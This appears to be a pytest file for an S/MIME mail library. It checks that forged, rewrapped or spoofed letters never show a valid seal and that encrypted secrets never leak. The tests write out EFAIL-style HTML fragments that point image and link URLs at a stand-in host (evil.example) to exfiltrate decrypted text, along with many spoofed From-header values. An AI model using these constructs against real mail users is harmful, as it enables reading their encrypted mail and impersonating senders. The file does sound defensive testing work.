"""Attacks on what a reader believes: none of these letters may carry a full seal or leak what it hides.

Classes: content confusion in CMS, wrapping in MIME, identity in the header, EFAIL. The letters are made with the
product's own parts, rearranged by Mallory.
"""

from __future__ import annotations

import base64
import inspect

import pytest
from cryptography import x509

from pki.trust import Trust
from smime.encrypt import enveloped_data
from smime.headers import protect
from smime.mime import Entity, build_body, join_parts, message, multipart, text_entity
from smime.mime_read import parse
from smime.report import Encryption, Seal, SecurityReport, Signature
from smime.sign import signed_data
from tests.smime.letters import (
    ALICE,
    AT,
    BOB,
    CBC,
    FROM,
    GCM,
    MALLORY,
    TEXT,
    TRUST,
    codes,
    encrypt,
    fields,
    letter,
    opened,
    sign,
)  # fmt: skip
from tests.smime.people import certify, key

SECRET = "the merger is on Friday"
EVIL = "Please pay Mallory."


def leaf(content_type: str, content: bytes) -> Entity:
    encoded = base64.encodebytes(content).replace(b"\n", b"\r\n")
    return Entity((("Content-Type", content_type), ("Content-Transfer-Encoding", "base64")), encoded)


def clear_signed(*parts: Entity, extra: str = "") -> Entity:
    """multipart/signed around any parts."""
    kind = f'multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="=_b"{extra}'
    return Entity((("Content-Type", kind),), join_parts("=_b", [part.to_bytes() for part in parts]))


def signature(content: bytes, *, detached: bool = True, signers=(ALICE,)) -> Entity:
    cms = signed_data(content, signers=[person.signing for person in signers], at=AT, detached=detached)
    return leaf("application/pkcs7-signature; name=smime.p7s", cms)


def send(entity: Entity, **header: str) -> SecurityReport:
    return opened(message(fields(**header), entity))


def never_sealed(report: SecurityReport) -> bool:
    return report.seal not in (Seal.OK, Seal.REV_STALE, Seal.REV_UNKNOWN)


BODY = build_body(TEXT)


def test_the_honest_letter_of_these_attacks_is_sealed() -> None:
    assert send(clear_signed(BODY, signature(BODY.to_bytes()))).seal is Seal.OK


# CMS content confusion ------------------------------------------------------------------------------------


def test_a_detached_signature_with_a_content_of_its_own_is_bad() -> None:
    report = send(clear_signed(build_body(EVIL), signature(BODY.to_bytes(), detached=False)))
    assert (report.seal, report.signature) == (Seal.BAD, Signature.BAD)
    assert report.text == EVIL  # what stands in the letter, never the hidden content


def test_even_an_equal_embedded_content_is_bad() -> None:
    report = send(clear_signed(BODY, signature(BODY.to_bytes(), detached=False)))
    assert report.seal is Seal.BAD


def test_an_opaque_signature_without_content_is_bad_and_shows_nothing() -> None:
    cms = signed_data(BODY.to_bytes(), signers=[ALICE.signing], at=AT, detached=True)
    report = send(leaf("application/pkcs7-mime; smime-type=signed-data", cms))
    assert (report.seal, report.signature, report.text) == (Seal.BAD, Signature.BAD, "")


def test_an_opaque_signature_beside_an_outer_text_is_never_sealed() -> None:
    opaque = sign(BODY, opaque=True)
    for parts in ([text_entity(EVIL, "plain"), opaque], [opaque, text_entity(EVIL, "plain")]):
        report = send(multipart("mixed", parts))
        assert never_sealed(report)
        assert TEXT not in report.text  # opens on its own
        assert report.attachments[0].media_type == "application/pkcs7-mime"


def test_zero_signers_are_no_signature() -> None:
    from smime.sign import certs_only

    p7s = leaf("application/pkcs7-signature", certs_only([ALICE.certificate]))
    report = send(clear_signed(BODY, p7s))
    assert (report.seal, report.signature) == (Seal.NONE, Signature.NONE)
    assert "no-signer" in codes(report)


def test_a_second_signer_who_is_not_the_author_takes_the_seal_away() -> None:
    report = send(clear_signed(BODY, signature(BODY.to_bytes(), signers=(ALICE, MALLORY))))
    assert (report.seal, report.sender) == (Seal.MISMATCH, "mismatch")


def test_two_good_signers_of_the_author_keep_the_seal() -> None:
    from tests.smime.people import person

    other = person("rsa-2048", "Alice", 7)
    assert send(clear_signed(BODY, signature(BODY.to_bytes(), signers=(ALICE, other)))).seal is Seal.OK


def test_the_signature_of_another_letter_is_bad() -> None:
    report = send(clear_signed(build_body(EVIL), signature(BODY.to_bytes())))
    assert (report.seal, report.text) == (Seal.BAD, EVIL)


def test_an_untrusted_signer_is_never_shown_like_a_trusted_one() -> None:
    report = opened(letter(cipher=None), trust=Trust(()))
    assert never_sealed(report)
    assert report.signature is Signature.GOOD


# MIME wrapping -----------------------------------------------------------------------------------------------


def test_a_third_part_is_refused_as_a_signature() -> None:
    report = send(clear_signed(BODY, signature(BODY.to_bytes()), text_entity(EVIL, "plain")))
    assert (report.seal, report.signature) == (Seal.BAD, Signature.BAD)
    assert "signature-structure" in codes(report)


@pytest.mark.parametrize("before", [True, False])
def test_text_around_a_signed_part_takes_the_seal_away(before: bool) -> None:
    signed, evil = sign(BODY), text_entity(EVIL, "plain")
    report = send(multipart("mixed", [evil, signed] if before else [signed, evil]))
    assert (report.seal, report.signature, report.sender) == (Seal.NONE, Signature.NONE, None)
    assert "inner-signature" in codes(report)
    assert parse(report.attachments[0].content).media_type == "multipart/signed"


def test_html_around_a_signed_part_cannot_hide_it_under_a_seal() -> None:
    hiding = text_entity(f"<p>{EVIL}</p><div style='display:none'>", "html")
    report = send(multipart("mixed", [hiding, sign(build_body(TEXT, html="<p>true</p>"))]))
    assert never_sealed(report)
    assert report.html is not None
    assert "true" not in report.html


def test_a_signed_part_shown_by_cid_or_as_an_attachment_gives_no_seal() -> None:
    html = text_entity(f"<p>{EVIL}</p><img src='cid:signed'>", "html")
    attached = Entity((("Content-ID", "<signed>"), *sign(BODY).headers), sign(BODY).body)
    assert never_sealed(send(multipart("related", [html, attached])))


@pytest.mark.parametrize("subtype", ["alternative", "related", "parallel", "digest", "report", "x-unknown"])
def test_no_multipart_of_any_kind_lends_a_seal_to_its_neighbours(subtype: str) -> None:
    assert never_sealed(send(multipart(subtype, [sign(BODY), text_entity(EVIL, "html")])))


def test_text_in_preamble_and_epilogue_is_not_shown_and_is_named() -> None:
    raw = message(fields(), sign(BODY))
    boundary = parse(raw).parameters["boundary"].encode()
    raw = (
        raw.replace(b"\r\n\r\n--" + boundary, b"\r\n\r\n" + EVIL.encode() + b"\r\n--" + boundary, 1)
        + EVIL.encode()
    )
    report = opened(raw)
    assert EVIL not in report.text
    assert report.seal is Seal.OK
    assert "text-outside-signature" in codes(report)


def test_another_boundary_in_a_second_content_type_is_never_used() -> None:
    signed = sign(BODY)
    twice = Entity((*signed.headers, ("Content-Type", "text/plain")), signed.body)
    assert send(twice).text == TEXT
    first = Entity((("Content-Type", "text/plain"), *signed.headers), signed.body)
    assert never_sealed(send(first))


def test_an_unknown_signature_protocol_is_no_seal() -> None:
    kind = 'multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha256; boundary="=_b"'
    parts = join_parts("=_b", [BODY.to_bytes(), leaf("application/pgp-signature", b"x").to_bytes()])
    report = send(Entity((("Content-Type", kind),), parts))
    assert (report.seal, report.text) == (Seal.NONE, TEXT)
    assert "signature-protocol" in codes(report)


# Identity ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "author",
    [
        "Mallory <mallory@contoso.example>",
        "mallory@contoso.example, alice@contoso.example",
        "alice@contoso.example, mallory@contoso.example",
        "<alice@contoso.example> <mallory@contoso.example>",
        "Group: alice@contoso.example;",
        '"alice@contoso.example" <mallory@contoso.example>',
        "alice＠contoso.example <mallory@contoso.example>",
        "=?utf-8?q?alice=40contoso=2Eexample?= <mallory@contoso.example>",
        '"=?utf-8?q?alice=40contoso=2Eexample?=" <mallory@contoso.example>',
        '"mallory@contoso.example" <alice@contoso.example>',
        "Mallory mallory@contoso.example <alice@contoso.example>",
        "alice@contoso.example (mallory@contoso.example)",
        "alice@contoso.example.evil.example",
        "a.lice@contoso.example",
        "alice+x@contoso.example",
        "alice@сontoso.example",  # a Cyrillic letter
        "alice@contoso.example\t<mallory@contoso.example>",
        "",
        "Alice",
        "<>",
        "alice@contoso.example <",
        "@evil.example:alice@contoso.example",
        "alice@contoso.example@evil.example",
    ],
)
def test_a_from_that_is_not_plainly_the_signer_is_a_mismatch(author: str) -> None:
    report = opened(b"From: " + author.encode() + b"\r\n" + message(fields()[1:], sign(BODY)))
    assert (report.seal, report.sender) == (Seal.MISMATCH, "mismatch"), author
    assert report.signer is not None
    assert report.signer.name == "Alice"


@pytest.mark.parametrize(
    "author",
    [
        "alice@contoso.example", "ALICE@CONTOSO.EXAMPLE", "Alice <alice@contoso.example>", "<alice@contoso.example>",
        '"Alice, of Contoso" <alice@contoso.example>', "=?utf-8?q?=C3=84lice?= <alice@contoso.example>",
        '"alice@contoso.example" <alice@contoso.example>', "alice@contoso.example (Alice)",
    ],
)  # fmt: skip
def test_a_from_that_is_plainly_the_signer_is_a_match(author: str) -> None:
    report = opened(b"From: " + author.encode() + b"\r\n" + message(fields()[1:], sign(BODY)))
    assert (report.seal, report.sender) == (Seal.OK, "match"), author


def test_two_from_fields_are_never_sealed() -> None:
    for first, second in ((FROM, "mallory@contoso.example"), ("mallory@contoso.example", FROM), (FROM, FROM)):
        report = opened(message([("From", second), *fields(From=first)], sign(BODY)))
        assert (report.seal, report.sender) == (Seal.MISMATCH, "mismatch")


def test_two_from_fields_outside_are_never_sealed_even_over_a_protected_one() -> None:
    for second in (b"mallory@contoso.example", FROM.encode(), b"", b"<>"):
        report = opened(b"From: " + second + b"\r\n" + letter())
        assert (report.seal, report.sender) == (Seal.MISMATCH, "mismatch"), second


def test_a_differing_sender_is_named_and_never_matched() -> None:
    report = send(sign(BODY, MALLORY), Sender="mallory@contoso.example")
    assert report.seal is Seal.MISMATCH
    assert "sender-differs" in codes(report)


def test_a_bare_object_has_no_author_and_no_full_seal() -> None:
    cms = signed_data(BODY.to_bytes(), signers=[ALICE.signing], at=AT, detached=False)
    report = opened(cms)
    assert (report.seal, report.signature, report.text) == (Seal.MISMATCH, Signature.GOOD, TEXT)


# Signatures and encryption ----------------------------------------------------------------------------------


def test_a_signature_around_ciphertext_seals_nothing() -> None:
    report = send(sign(encrypt(BODY), MALLORY), From="mallory@contoso.example")
    assert (report.seal, report.signature, report.signer) == (Seal.NONE, Signature.NONE, None)
    assert "signature-around-encryption" in codes(report)


def test_a_stripped_and_replaced_outer_signature_does_not_change_the_author() -> None:
    inner = encrypt(sign(BODY))
    report = send(sign(inner, MALLORY), From="mallory@contoso.example")
    assert (report.seal, report.sender) == (Seal.MISMATCH, "mismatch")


def test_a_signature_deep_inside_an_unsigned_envelope_in_an_envelope_does_not_count() -> None:
    report = send(encrypt(sign(encrypt(BODY))))
    assert (report.seal, report.signature) == (Seal.NONE, Signature.NONE)


def test_signatures_around_one_another_seal_only_if_all_are_good_and_of_the_author() -> None:
    assert send(sign(sign(BODY))).seal is Seal.OK
    assert send(sign(sign(BODY), MALLORY)).seal is Seal.MISMATCH
    assert send(sign(sign(BODY, MALLORY))).seal is Seal.MISMATCH
    inner = sign(BODY)
    assert send(sign(Entity(inner.headers, inner.body.replace(b"figures", b"figurez")))).seal is Seal.BAD


def test_the_header_of_an_unsigned_envelope_gives_the_subject_and_never_the_author() -> None:
    inner = protect(
        build_body(TEXT), fields(From="Bob <bob@contoso.example>"), encrypted=True, legacy_display=False
    )
    report = send(encrypt(inner.entity), From="mallory@contoso.example", Subject="[...]")
    assert report.header("From") == "mallory@contoso.example"
    assert report.from_address == "mallory@contoso.example"
    assert "igures" in (report.header("Subject") or "")
    assert set(report.protected_headers) == {"Subject"}
    assert "subject-unsigned" in codes(report)


def test_header_protection_in_an_unsigned_or_broken_letter_protects_nothing() -> None:
    protected = protect(BODY, fields(), encrypted=False, legacy_display=False)
    assert opened(message(protected.outer, protected.entity)).protected_headers == {}
    raw = message(protected.outer, sign(protected.entity)).replace(b"figures are", b"figurez are")
    assert opened(raw).protected_headers == {}


def test_hp_in_a_part_that_is_not_the_payload_root_is_ignored() -> None:
    part = protect(
        text_entity(TEXT, "plain"), fields(Subject="forged"), encrypted=False, legacy_display=False
    ).entity
    report = send(sign(multipart("mixed", [part])))
    assert report.seal is Seal.OK
    assert report.protected_headers == {}


# EFAIL --------------------------------------------------------------------------------------------------------


def secret_part(cipher=CBC) -> Entity:
    return encrypt(build_body(SECRET), cipher=cipher)


@pytest.mark.parametrize("cipher", [CBC, GCM])
@pytest.mark.parametrize(
    "subtype", ["mixed", "related", "alternative", "parallel", "digest", "report", "x-odd"]
)
def test_direct_exfiltration_never_joins_a_secret_with_foreign_html(subtype: str, cipher) -> None:
    before = text_entity('<img src="http://evil.example/', "html")
    after = text_entity('">', "html")
    report = send(multipart(subtype, [before, secret_part(cipher), after]))
    assert SECRET not in report.text
    assert SECRET not in (report.html or "")
    assert all(SECRET.encode() not in file.content for file in report.attachments)


def test_direct_exfiltration_inside_a_signed_letter_of_mallory_fails_too() -> None:
    wrapped = multipart("mixed", [text_entity('<img src="http://evil.example/', "html"), secret_part()])
    report = send(sign(wrapped, MALLORY), From="mallory@contoso.example")
    assert SECRET not in report.text + (report.html or "")


def test_direct_exfiltration_through_a_forwarded_message_fails_too() -> None:
    inner = message([("Subject", "x")], secret_part())
    forwarded = Entity((("Content-Type", "message/rfc822"),), inner)
    report = send(multipart("mixed", [text_entity('<a href="http://evil.example/', "html"), forwarded]))
    assert SECRET not in report.text + (report.html or "")


def test_unsigned_cbc_is_shown_as_text_only() -> None:
    html = f'{SECRET} <a href="http://evil.example">x</a><img src="http://evil.example/1">'
    for body in (build_body("plain", html=html), text_entity(html, "html")):
        report = send(encrypt(body, cipher=CBC))
        assert (report.encryption, report.html) == (Encryption.UNPROTECTED, None)
        assert "evil.example" not in report.text
        assert not report.remote_content
        assert "encryption-unprotected" in codes(report)


def test_cbc_with_a_broken_or_foreign_kind_of_inner_signature_is_text_only() -> None:
    rich = build_body(TEXT, html=f"<p>{SECRET}</p>")
    good = sign(rich)
    broken = Entity(good.headers, good.body.replace(b"figures", b"figurez"))
    assert send(encrypt(broken, cipher=CBC)).encryption is Encryption.UNPROTECTED
    assert send(encrypt(broken, cipher=CBC)).html is None
    beside = multipart("mixed", [text_entity("<p>gadget</p>", "html"), good])
    assert send(encrypt(beside, cipher=CBC)).html is None
    outside = send(sign(encrypt(rich, cipher=CBC)))
    assert (outside.encryption, outside.html) == (Encryption.UNPROTECTED, None)


def test_cbc_with_a_mathematically_good_signature_of_anybody_is_no_efail() -> None:
    report = opened(letter(cipher=CBC, html="<p>x</p>", signer=MALLORY), trust=Trust(()))
    assert report.encryption is Encryption.OK
    assert report.html == "<p>x</p>"
    assert never_sealed(report)


def test_cbc_gadgets_lose_html_and_the_seal() -> None:
    """Flipping the ciphertext block by block: what is still sealed is untouched, all else is no HTML."""
    html = f"<p>{SECRET}</p>"
    cms = bytearray(parse(letter(cipher=CBC, html=html)).content())
    survivors = 0
    for offset in range(len(cms) - 2400, len(cms) - 40, 61):
        changed = bytearray(cms)
        changed[offset] ^= 0x20
        report = opened(
            message(fields(), leaf("application/pkcs7-mime; smime-type=enveloped-data", bytes(changed)))
        )
        if report.html is not None:  # the change fell outside of what is signed and shown
            survivors += 1
            assert (report.html, report.text, report.signature) == (html, TEXT, Signature.GOOD)
            continue
        assert never_sealed(report)
        assert report.encryption in (Encryption.UNPROTECTED, Encryption.FAIL)
    assert survivors < 20


def test_gcm_content_relabelled_as_a_cbc_envelope_is_never_html() -> None:
    cms = enveloped_data(
        text_entity(f"<p>{SECRET}</p>", "html").to_bytes(), recipients=[BOB.certificate], cipher=GCM
    )
    report = send(leaf("application/pkcs7-mime; smime-type=enveloped-data", cms))
    assert report.encryption is Encryption.OK
    assert "smime-type-differs" in codes(report)


def test_an_encrypted_part_in_a_reply_template_is_not_opened() -> None:
    quoted = multipart("mixed", [text_entity("Could you confirm?", "plain"), secret_part()])
    report = send(quoted)
    assert report.encryption is Encryption.NONE
    assert SECRET not in report.text
    assert "inner-layer" in codes(report)


def test_too_many_layers_are_refused_and_nothing_is_shown() -> None:
    entity = BODY
    for _ in range(5):
        entity = sign(entity, opaque=True)
    report = send(entity)
    assert "over-budget" in codes(report)
    assert (report.seal, report.text) != (Seal.OK, TEXT)
    assert report.text == ""


def test_one_trust_setting_does_not_change_the_mathematics() -> None:
    raw = letter()
    assert opened(raw, trust=TRUST).signature is opened(raw, trust=Trust(())).signature is Signature.GOOD


# Keys that may not sign ------------------------------------------------------------------------------------------


def only(bit: str) -> x509.KeyUsage:
    return x509.KeyUsage(**{name: name == bit for name in inspect.signature(x509.KeyUsage).parameters})


@pytest.mark.parametrize("bit", ["key_agreement", "key_encipherment", "key_cert_sign"])
def test_a_key_that_was_not_issued_for_signing_never_seals(bit: str) -> None:
    """Encryption keys are held in recovery by others: what one of them signs proves nothing about its owner."""
    report = send(sign(BODY, certify(key("p-256", 41), usage=only(bit))))
    assert (report.seal, report.signature) == (Seal.INVALID, Signature.GOOD)
    assert "certificate-not-for-signing" in codes(report)


@pytest.mark.parametrize("bit", ["digital_signature", "content_commitment"])
def test_either_bit_for_signing_is_enough(bit: str) -> None:
    assert send(sign(BODY, certify(key("p-256", 42), usage=only(bit)))).seal is Seal.OK


def test_an_authority_never_seals_a_letter() -> None:
    authority = certify(key("p-256", 43), extension=x509.BasicConstraints(ca=True, path_length=None))
    report = send(sign(BODY, authority))
    assert report.seal is Seal.INVALID
    assert "certificate-not-for-signing" in codes(report)
